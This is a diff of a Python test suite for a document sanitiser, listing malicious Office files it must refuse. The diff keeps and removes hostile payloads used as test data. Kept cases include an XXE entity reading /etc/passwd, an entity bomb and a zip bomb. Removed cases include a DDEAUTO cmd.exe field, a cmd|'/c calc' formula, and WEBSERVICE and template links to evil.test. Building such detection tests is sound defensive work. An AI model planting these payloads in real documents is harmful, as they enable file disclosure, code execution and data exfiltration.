@@ -5,30 +5,11 @@ import stat
 import struct
 import zipfile
 
-from files.cleaning.kinds import PPTX, XLSX
-from files.tests.corpus.case import EICAR, HTML, SVG, kept, refused
+from files.cleaning.kinds import PPTX
+from files.tests.corpus.case import EICAR, HTML, kept, refused
+from files.tests.corpus.outside import linked
 from files.tests.corpus.pictures import located_photograph
-from files.tests.samples import OFFICE_RELATIONS, office, packed, parts
-
-
-def external(kind: str, target: str, more: str = "") -> str:
-    return f'<Relationship Id="rX" Type="{OFFICE_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>{more}'
-
-
-def linked(kind: str, target: str) -> str:
-    return f'<Relationship Id="rI" Type="{OFFICE_RELATIONS}/{kind}" Target="{target}"/>'
-
-
-def instruction(*runs: str) -> str:
-    inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
-    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}</w:p>'
-
-
-def sheet(formula: str) -> bytes:
-    cell = f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
-    return office(
-        XLSX, more={"xl/worksheets/sheet1.xml": cell.encode()}, rels=linked("worksheet", "worksheets/sheet1.xml")
-    )
+from files.tests.samples import office, packed, parts
 
 
 def declared(declaration: str) -> bytes:
@@ -101,11 +82,17 @@ def photographed() -> bytes:
 
 LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
 XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
+ODT = b"application/vnd.oasis.opendocument.text"
 WITH_MACROS = {"word/vbaProject.bin": b"macro"}
 OFFICE_FILES = [
     refused("an archive that is no document", lambda: packed({"eicar.com": EICAR}), "kind", sent_as="a.zip"),
     refused("a text that unpacks to 200 MB", bomb, "bomb"),
-    refused("an archive in an archive", lambda: office(more={"word/a.zip": packed({"b.zip": b""})}), "embedded"),
+    refused(
+        "an archive in an archive",
+        lambda: office(more={"word/a.zip": packed({"b.zip": b""})}, rels=linked("package", "a.zip")),
+        "embedded",
+    ),
+    refused("a document of another office program", lambda: packed({"mimetype": ODT, "content.xml": b"<a/>"}), "kind"),
     refused("5,000 parts", lambda: office(more={f"word/{n}.xml": b"<a/>" for n in range(5000)}), "bomb"),
     refused("a directory that lies about a size", lambda: directory_changed(24, b"\x01\0\0\0"), "broken"),
     refused("a directory that lies about a place", lambda: directory_changed(42, b"\x04\0\0\0"), "broken", "forged"),
@@ -134,29 +121,8 @@ OFFICE_FILES = [
         ),
         "macros",
     ),
-    refused(
-        "a template elsewhere", lambda: office(rels=external("attachedTemplate", "https://evil.test/a.dotm")), "outside"
-    ),
-    refused("a picture elsewhere", lambda: office(rels=external("image", "https://evil.test/a.png")), "outside"),
-    refused("a link that is a script", lambda: office(rels=external("hyperlink", "javascript:alert(1)")), "outside"),
-    refused("a link to a share", lambda: office(rels=external("hyperlink", "file://evil.test/a")), "outside"),
-    refused(
-        "a program in a document", lambda: office(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "embedded"
-    ),
-    refused("a program in slides", lambda: office(PPTX, more={"ppt/embeddings/a.exe": b"MZ"}), "embedded"),
-    refused("a part of another kind", lambda: office(more={"word/media/a.svg": SVG}), "part"),
     refused("an entity from the disk", lambda: declared(XXE), "entities"),
     refused("entities of entities", lambda: declared(LAUGHS), "entities"),
-    refused("a field that starts a program", lambda: office(body=instruction("DDEAUTO c:\\cmd.exe")), "formula"),
-    refused("such a field in pieces", lambda: office(body=instruction(" DD", "EAU", "TO x")), "formula"),
-    refused("a field that fetches", lambda: office(body='<w:fldSimple w:instr="INCLUDEPICTURE x"/>'), "formula"),
-    refused("a formula that starts a program", lambda: sheet("cmd|'/c calc'!A0"), "formula"),
-    refused("a formula that fetches", lambda: sheet("WEBSERVICE(&quot;https://evil.test&quot;)"), "formula"),
-    refused(
-        "a link to another workbook",
-        lambda: office(XLSX, more={"xl/externalLinks/externalLink1.xml": b"<a/>"}),
-        "outside",
-    ),
     refused("an old or locked Office file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "kind"),
     kept("the writer of a document", office, b"Somebody Private", b"docProps", sent_as="a.docx", kept_as="a.docx"),
     kept("a place in a photograph in a document", photographed, b"Carana City", b"Exif", kept_as="note.docx"),
@@ -166,7 +132,5 @@ OFFICE_FILES = [
         b"secret",
         kept_as="note.docx",
     ),
-    kept("an honest sum", lambda: sheet("SUM(A2:A9)"), b"Private", sent_as="a.xlsx", kept_as="a.xlsx"),
-    kept("an honest link", lambda: office(rels=external("hyperlink", "https://example.org/")), kept_as="note.docx"),
     kept("honest slides", lambda: office(PPTX), b"Private", sent_as="a.pptx", kept_as="a.pptx"),
 ]
